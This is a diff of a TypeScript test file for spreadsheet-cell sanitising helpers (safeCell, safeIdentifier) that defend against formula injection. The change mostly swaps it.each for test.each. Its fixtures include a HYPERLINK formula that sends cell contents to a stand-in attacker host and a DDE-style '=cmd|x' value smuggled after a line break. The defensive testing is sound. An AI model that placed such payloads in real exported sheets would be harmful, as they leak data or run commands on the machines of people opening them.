@@ -3,7 +3,7 @@ import fc from 'fast-check';
 import { safeCell, safeIdentifier } from '../../../nodes/RentalScreening/results/cells.ts';
 
 describe('text for a spreadsheet', () => {
-	it.each([
+	test.each([
 		'=1+1',
 		'=HYPERLINK("http://evil.example?"&A1,"Click")',
 		'+1+1',
@@ -32,14 +32,20 @@ describe('text for a spreadsheet', () => {
 		expect(safeCell(text)).toBe(`'${text}`);
 	});
 
-	it.each(['', 'Jane', '2026-03-01', '12 Maple Street', 'a=b', 'jane@example.com', '(+1)', "'=1"])(
-		'stays as it is where nothing takes it for a formula: %j',
-		(text) => {
-			expect(safeCell(text)).toBe(text);
-		},
-	);
+	test.each([
+		'',
+		'Jane',
+		'2026-03-01',
+		'12 Maple Street',
+		'a=b',
+		'jane@example.com',
+		'(+1)',
+		"'=1",
+	])('stays as it is where nothing takes it for a formula: %j', (text) => {
+		expect(safeCell(text)).toBe(text);
+	});
 
-	it.each(['+14165550100', '-12.5', '-3', '+0.25'])('stays a phone or a number: %s', (text) => {
+	test.each(['+14165550100', '-12.5', '-3', '+0.25'])('stays a phone or a number: %s', (text) => {
 		expect(safeCell(text)).toBe(text);
 	});
 
@@ -52,7 +58,7 @@ describe('text for a spreadsheet', () => {
 		expect(safeCell(text)).toBe(expected);
 	});
 
-	it.each([
+	test.each([
 		['Smith\r=cmd|x', 'Smith =cmd|x'],
 		['Smith\n=1+1', 'Smith =1+1'],
 		['Smith\r\n=1+1', 'Smith =1+1'],
@@ -67,7 +73,7 @@ describe('text for a spreadsheet', () => {
 		expect(safeCell(text)).toBe(expected);
 	});
 
-	it('is one line, never begins like a formula and loses nothing but line breaks', () => {
+	test('is one line, never begins like a formula and loses nothing but line breaks', () => {
 		const lineBreaks = /\r\n|[\n\v\f\r\u0085\u2028\u2029]/g;
 		fc.assert(
 			fc.property(
@@ -85,14 +91,14 @@ describe('text for a spreadsheet', () => {
 });
 
 describe('an identifier for a spreadsheet', () => {
-	it.each(['-NxYz_0123', 'usr-0b6d2c1e', '0b6d2c1e-52a7-4f0e-9d4b-6a1f5f0f7c21'])(
+	test.each(['-NxYz_0123', 'usr-0b6d2c1e', '0b6d2c1e-52a7-4f0e-9d4b-6a1f5f0f7c21'])(
 		'stays as it is, because later steps send it back: %s',
 		(identifier) => {
 			expect(safeIdentifier(identifier)).toBe(identifier);
 		},
 	);
 
-	it.each(['=1+1', '-1+A1', '@x', '-HYPERLINK("x")'])(
+	test.each(['=1+1', '-1+A1', '@x', '-HYPERLINK("x")'])(
 		'gets an apostrophe where it is no plain identifier: %s',
 		(identifier) => {
 			expect(safeIdentifier(identifier)).toBe(`'${identifier}`);
